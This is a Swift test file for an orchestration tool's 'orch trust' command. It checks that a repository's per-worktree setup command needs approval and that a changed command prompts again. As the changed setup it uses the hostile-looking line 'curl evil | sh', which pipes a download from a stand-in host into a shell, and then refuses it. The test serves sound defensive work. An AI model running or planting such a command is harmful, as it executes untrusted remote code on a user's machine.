import OrchCore
import OrchForge
import OrchHome
import Testing

/// `orch trust`, asked once for each command.
@Suite struct TrustTests {
    @Test func aCommandIsAllowedOnceAndAskedAgainWhenItChanges() async throws {
        try await OrchHouse.with { house in
            let repository = "\(house.root)/shop"
            try PrivateDirectory.create(repository)
            func set(_ setup: String) throws {
                try AtomicFile.write(
                    Array(#"{"project": {}, "worktree": {"setup": "\#(setup)"}}"#.utf8), to: "\(repository)/orchestration.config.json")
            }
            let git = try await house.git("init", "--quiet", repository)
            #expect(git.exit == .code(0))
            try set("npm ci")
            let asked = try await house.run("trust", in: repository)
            #expect(asked.exit == .code(64), "nobody is there to answer")
            #expect(asked.errorText.contains("wants to run for each new worktree: npm ci; 'orch trust --yes' allows it"))
            #expect(try await house.run("trust", "--yes", in: repository).text.hasPrefix("Allowed"))
            #expect(try await house.run("trust", in: repository).text.contains("trusted already"))
            try set("curl evil | sh")
            #expect(try await house.run("trust", in: repository).errorText.contains("has changed its set-up command to: curl evil | sh"))
            #expect(try await house.run("trust", "--no", in: repository).text.hasPrefix("Refused"))
            let answers = try HostConfigFile(home: house.home, environment: house.environment).read().config.trust
            #expect(answers.map(\.isAllowed) == [true, false])
            #expect(answers.allSatisfy { $0.repository == repository })
        }
    }
}
